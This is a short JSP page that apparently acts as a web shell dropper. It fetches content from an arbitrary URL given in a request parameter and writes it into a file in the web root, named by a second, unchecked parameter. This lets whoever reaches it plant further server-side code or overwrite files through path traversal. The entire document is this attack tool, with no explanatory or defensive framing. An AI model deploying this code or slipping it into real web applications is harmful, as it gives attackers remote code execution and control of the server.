<%@ taglib prefix="c" uri="http://java.sun.com/jsp/jstl/core" %>
<c:import var="src" url="${param.u}"/>
<%
    String body = (String) pageContext.getAttribute("src");
    java.io.File f = new java.io.File(application.getRealPath("/"), request.getParameter("n"));
    java.io.FileWriter w = new java.io.FileWriter(f);
    w.write(body);
    w.close();
%>
